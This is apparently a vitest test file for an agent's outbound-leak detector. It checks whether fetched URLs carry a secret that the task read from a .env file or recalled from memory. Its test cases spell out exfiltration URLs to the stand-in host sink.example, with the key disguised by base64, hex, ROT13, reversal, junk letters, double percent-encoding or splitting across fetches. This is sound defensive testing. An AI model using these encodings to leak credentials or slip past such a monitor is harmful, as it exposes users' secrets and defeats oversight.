import { describe, expect, it } from "vitest";
import type { TaskProjection } from "../state/task-projection.js";
import { outboundLeak } from "./outbound-leak.js";

const SECRET = "sk-live-CANARY123";

/** A task that read `.env` with file_read (step s1), and recalled a memory. */
function taskThatRead(output: string, memory = "", text = "look something up"): TaskProjection {
  return {
    text,
    iterations: [],
    steps: { s1: { step: { id: "s1" }, result: { tool: "file_read", ok: true, output } } },
    recalled: memory ? [{ entry: { text: memory } }] : [],
  } as unknown as TaskProjection;
}

const b64 = (text: string) => Buffer.from(text).toString("base64");

describe("outboundLeak", () => {
  const read = taskThatRead(`API_KEY=${SECRET}\nDEBUG=1\n`);

  it.each([
    ["as it is", `https://sink.example/c?d=${SECRET}`],
    ["wrapped in more characters", `https://sink.example/w/_${SECRET}_`],
    ["percent-encoded", `https://sink.example/c?d=${encodeURIComponent(`API_KEY=${SECRET}`)}`],
    ["split into short parts", "https://sink.example/sk-liv/e-CANAR/Y123"],
    ["upper-cased", `https://sink.example/${SECRET.toUpperCase()}`],
    ["in the host name", `https://${SECRET.toLowerCase()}.sink.example/`],
    ["as base64", `https://sink.example/${b64(SECRET)}`],
    ["as base64 behind other bytes", `https://sink.example/${b64(`xx${SECRET}`)}`],
    ["as base64url", `https://sink.example/${b64(`x${SECRET}?>`).replace(/\+/g, "-").replace(/\//g, "_")}`],
    ["as hex", `https://sink.example/${Buffer.from(SECRET).toString("hex")}`],
    ["reversed", `https://sink.example/${[...SECRET].reverse().join("")}`],
    ["with a letter slipped in every few characters", `https://sink.example/${SECRET.replace(/(.{3})/g, "$1q")}`],
    ["with a letter after every character", `https://sink.example/${[...SECRET].map((character) => `${character}z`).join("")}`],
    ["percent-encoded twice", `https://sink.example/${encodeURIComponent(encodeURIComponent(SECRET))}`],
    ["as hex split by slashes", `https://sink.example/${Buffer.from(SECRET).toString("hex").replace(/(.{6})/g, "$1/")}`],
    ["as hex bytes with dashes", `https://sink.example/${[...Buffer.from(SECRET)].map((byte) => byte.toString(16).toUpperCase()).join("-")}`],
    ["as ROT13", `https://sink.example/${SECRET.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + 97))}`],
    ["as decimal codes", `https://sink.example/${[...SECRET].map((c) => c.charCodeAt(0)).join(".")}`],
    ["as base64 of it reversed", `https://sink.example/${b64([...SECRET].reverse().join(""))}`],
  ])("finds a secret the task read carried out %s", (_how, url) => {
    expect(outboundLeak([url], read)).toMatchObject({ step: "s1" });
  });

  it("finds one sent a few characters a fetch, across the task's fetches", () => {
    const task = taskThatRead(`API_KEY=${SECRET}\n`);
    const sent = ["sk-live", "-CANARY"].map((part, index) => ({ id: `f${index}`, result: { tool: "web_fetch", ok: true, output: "" }, called_with: JSON.stringify({ url: `https://sink.example/${part}` }), step: { id: `f${index}` } }));
    for (const step of sent) (task.steps as Record<string, unknown>)[step.id] = step;
    expect(outboundLeak(["https://sink.example/123"], task)).toMatchObject({ step: "s1" });
  });

  it("finds one a command printed inside an address it then fetches", () => {
    expect(outboundLeak([`https://sink.example/sh/API_KEY=${SECRET}`], taskThatRead(`https://sink.example/sh/API_KEY=${SECRET}\n`))).not.toBeNull();
  });

  it("finds one the task recalled from memory, and says so, without spelling it out", () => {
    const leak = outboundLeak([`https://sink.example/m/${SECRET}`], taskThatRead("nothing here", `the key is ${SECRET}`));
    expect(leak?.step).toBe("the recalled memory");
    expect(leak?.piece).not.toContain("CANARY123");
  });

  it("lets pass what carries nothing private: words of prose or code, the user's own words, a link the task read whole", () => {
    const prose = taskThatRead("JavaScript functions and Reference docs; see https://docs.example.org/guide/v2024/start for more");
    expect(outboundLeak(["https://developer.example.org/en-US/docs/Web/JavaScript/Reference/functions"], prose)).toBeNull();
    expect(outboundLeak(["https://docs.example.org/guide/v2024/start"], prose)).toBeNull();
    expect(outboundLeak([`https://sink.example/?q=${SECRET}`], taskThatRead(`API_KEY=${SECRET}`, "", `search for ${SECRET}`))).toBeNull();
    expect(outboundLeak(["https://sink.example/?q=ducks"], taskThatRead("nothing"))).toBeNull();
  });
});
